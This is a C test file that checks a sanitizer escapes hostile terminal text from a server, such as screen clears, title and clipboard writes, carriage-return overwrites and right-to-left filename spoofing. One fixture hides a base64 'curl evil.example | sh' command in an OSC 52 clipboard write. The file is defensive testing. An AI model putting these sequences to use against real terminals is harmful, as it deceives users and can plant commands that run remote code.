/* util/safetext: hostile text from a server (screen clears, clipboard and
 * title writes, carriage-return overwrites, bidirectional overrides, 8-bit
 * controls) comes out escaped, ordinary text (UTF-8 included) unchanged;
 * the boundaries that use it (errors, the audit log) keep nothing raw. */
#include "config.h"
#include <criterion/criterion.h>
#include <stdlib.h>
#include <string.h>

#include "util/err.h"
#include "util/safetext.h"
#include "util/strbuf.h"

/* 1 when `s` holds a byte a terminal acts on: C0 (but \n, \t when lines
 * are allowed), DEL, a lone 0x80..0x9f, or the UTF-8 of U+0080..U+009F,
 * U+202A..U+202E, U+2066..U+2069, U+200E/F, U+061C. */
static int has_raw_control(const char *s, int lines)
{
	const unsigned char *u = (const unsigned char *)s;

	for (; *u; u++) {
		if ((*u < 0x20 && !(lines && (*u == '\n' || *u == '\t'))) || *u == 0x7f)
			return 1;
		if (*u == 0xc2 && u[1] >= 0x80 && u[1] <= 0x9f)
			return 1;
		if (*u == 0xe2 && u[1] == 0x80 &&
		    ((u[2] >= 0xaa && u[2] <= 0xae) || u[2] == 0x8e || u[2] == 0x8f))
			return 1;
		if (*u == 0xe2 && u[1] == 0x81 && u[2] >= 0xa6 && u[2] <= 0xa9)
			return 1;
		if (*u == 0xd8 && u[1] == 0x9c)
			return 1;
	}
	/* lone bytes 0x80..0x9f outside a sequence */
	for (u = (const unsigned char *)s; *u; u++)
		if (*u >= 0x80 && *u <= 0x9f && !(u > (const unsigned char *)s && u[-1] >= 0xc2))
			return 1;
	return 0;
}

static const char *hostile[] = {
    "pods \"\033[2Jgone\" is forbidden",                /* clear screen */
    "x\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\007y", /* OSC 52 clipboard */
    "x\033]0;sudo is fine\033\\y",                      /* OSC 0 title, ST */
    "all good\rEVERYTHING DELETED",                     /* overwrite */
    "evil\xe2\x80\xae"
    "txt.exe", /* RLO */
    "a\xe2\x81\xa6"
    "b\xe2\x81\xa9"
    "c\xe2\x80\x8f", /* isolates, RLM */
    "8-bit CSI \xc2\x9b"
    "2J and OSC \xc2\x9d"
    "0;t\xc2\x9c", /* C1 in UTF-8 */
    "lone \x9b"
    "2J and \xff\xfe bytes", /* not UTF-8 */
    "bell\007 backspace\b del\177 nul-free \x1b[31mred",
    "overlong \xc0\x9b and surrogate \xed\xa0\x80",
};

Test(safetext, hostile_text_is_escaped_not_dropped)
{
	for (size_t i = 0; i < sizeof(hostile) / sizeof(*hostile); i++) {
		char *s = kj_safe_dup(hostile[i], 0);

		cr_assert_not(has_raw_control(s, 0), "case %zu left a control: %s", i, s);
		cr_assert(strchr(s, '\\'), "case %zu: nothing shows what was there: %s", i, s);
		cr_assert_not(kj_safe_is_clean(hostile[i], strlen(hostile[i]), 0), "case %zu", i);
		cr_assert(kj_safe_is_clean(s, strlen(s), 0), "case %zu: escaping twice changes it", i);
		free(s);
	}
	char *s = kj_safe_dup("a\033[2Jb\rc\xe2\x80\xae"
	                      "d\xc2\x9b"
	                      "e\x9b",
	                      0);
	cr_assert_str_eq(s, "a\\u001B[2Jb\\u000Dc\\u202Ed\\u009Be\\x9B");
	free(s);
}

Test(safetext, ordinary_text_passes_unchanged)
{
	const char *ok[] = {"", "read-pods-7f9c", "Löschschutz für „dev“ — ✓ 日本語 🙂",
	                    "serviceaccounts \"kj-x\" is forbidden: User \"system:sa\" cannot get",
	                    "back\\slash stays"};

	for (size_t i = 0; i < sizeof(ok) / sizeof(*ok); i++) {
		char *s = kj_safe_dup(ok[i], 0);

		cr_assert_str_eq(s, ok[i]);
		cr_assert(kj_safe_is_clean(ok[i], strlen(ok[i]), 0));
		free(s);
	}
}

Test(safetext, lines_keep_newlines_and_tabs_only_when_asked)
{
	char *one = kj_safe_dup("a\nb\tc", 0), *many = kj_safe_dup("a\nb\tc\r\033d", KJ_SAFE_LINES);

	cr_assert_str_eq(one, "a\\u000Ab\\u0009c");
	cr_assert_str_eq(many, "a\nb\tc\\u000D\\u001Bd");
	free(one);
	free(many);
}

Test(safetext, stream_cut_inside_a_sequence)
{
	const char *in = "ok \xe2\x80\xae rlo \xc3\xa4 \xc2\x9b";
	size_t len = strlen(in);

	/* every cut point gives the same result as the whole */
	for (size_t cut = 0; cut <= len; cut++) {
		kj_buf out;
		char carry[8];
		size_t used, rest;

		kj_buf_init(&out);
		used = kj_safe_append(&out, in, cut, 0, 0);
		cr_assert(cut - used <= 3, "cut %zu kept %zu bytes back", cut, cut - used);
		rest = cut - used;
		memcpy(carry, in + used, rest);
		{
			char *joined = kj_xmalloc(rest + len - cut + 1);

			memcpy(joined, carry, rest);
			memcpy(joined + rest, in + cut, len - cut);
			cr_assert_eq(kj_safe_append(&out, joined, rest + len - cut, 0, 1), rest + len - cut);
			free(joined);
		}
		kj_buf_addc(&out, '\0');
		cr_assert_str_eq(out.data, "ok \\u202E rlo \xc3\xa4 \\u009B", "cut at %zu", cut);
		kj_buf_done(&out);
	}
}

Test(safetext, copy_into_a_small_buffer_cuts_between_characters)
{
	char small[10];

	/* "ab" + "\u001B" fills 8 bytes; "ä" (two) would leave no room for
	 * the NUL: the cut comes before it, never inside it */
	cr_assert_eq(kj_safe_copy(small, sizeof(small), "ab\033\xc3\xa4xyz", 0), 8);
	cr_assert_str_eq(small, "ab\\u001B");
	cr_assert_eq(kj_safe_copy(small, 4, "\033", 0), 0, "half an escape is none");
	cr_assert_str_eq(small, "");
}

Test(safetext, errors_built_from_server_text_are_one_safe_line)
{
	kj_err e;

	kj_err_set(&e, KJ_ERR_DENIED, "the server said: %s", "no\033]0;pwned\007 way\nline two\r");
	cr_assert_not(has_raw_control(e.msg, 0), "%s", e.msg);
	cr_assert(strstr(e.msg, "the server said: no\\u001B]0;pwned\\u0007 way\\u000Aline two"), "%s", e.msg);
	kj_err_hint(&e, "ask \xe2\x80\xae%s", "admin");
	cr_assert_not(has_raw_control(e.hint, 0), "%s", e.hint);
	kj_err_prefix(&e, "minting \033[2J%s", "x");
	cr_assert_not(has_raw_control(e.msg, 0), "%s", e.msg);
	cr_assert(strncmp(e.msg, "minting \\u001B[2Jx: the server said", 35) == 0, "%s", e.msg);
}
